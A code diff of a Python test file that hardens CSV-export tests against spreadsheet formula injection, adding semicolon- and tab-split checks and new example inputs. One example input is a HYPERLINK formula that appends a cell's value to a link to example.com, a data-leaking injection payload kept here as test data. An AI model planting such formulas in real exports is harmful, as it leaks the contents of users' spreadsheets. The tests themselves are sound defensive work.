@@ -247,9 +247,18 @@ def test_numeric_fields_are_refused_or_sent_in_ascii_digits(name: str, text: str
 # --- CSV export and import ----------------------------------------------------------------
 
 FORMULA_LIKE = st.lists(
-    st.one_of(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", " "]), st.text()),
+    st.one_of(
+        st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", " ", ";", "; =", "\t-"]),
+        st.text(),
+    ),
     max_size=6,
 ).map("".join)
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def cells_a_spreadsheet_may_see(cell: str) -> list[str]:
+    """The cell, and its parts as a spreadsheet splitting on semicolons or tabs sees them."""
+    return [cell, *re.split(r"[;\t]", cell)]
 
 
 @SETTINGS
@@ -257,10 +266,13 @@ FORMULA_LIKE = st.lists(
 @example(text='=HYPERLINK("http://example.com/?"&A1,"Click")')
 @example(text="'=1+1")
 @example(text="'Tis fine")
+@example(text="Call back;=1+2;thanks")
+@example(text="\t\t=1")
 def test_a_guarded_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
     cell = guarded(text)
     assert unguarded(cell) == text
-    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    for part in cells_a_spreadsheet_may_see(cell):
+        assert part[:1] not in FORMULA_STARTS, (cell, part)
 
 
 @settings(SETTINGS, max_examples=40)
@@ -284,7 +296,9 @@ def test_free_text_exported_to_csv_is_sent_again_exactly(name: str, text: str) -
         with (folder / "export.csv").open(encoding="utf-8-sig", newline="") as file:
             table = list(csv.reader(file))
         start = len(HEADER) - len(FIELD_NAMES)
-        assert table[1][start + FIELD_NAMES.index(name)][:1] not in ("=", "+", "-", "@")
+        written = table[1][start + FIELD_NAMES.index(name)]
+        for part in cells_a_spreadsheet_may_see(written):
+            assert part[:1] not in ("=", "+", "-", "@"), (written, part)
         with (folder / "fields.csv").open("w", encoding="utf-8-sig", newline="") as file:
             csv.writer(file).writerows(line[start:] for line in table)
         again = read_leads_csv(folder / "fields.csv")
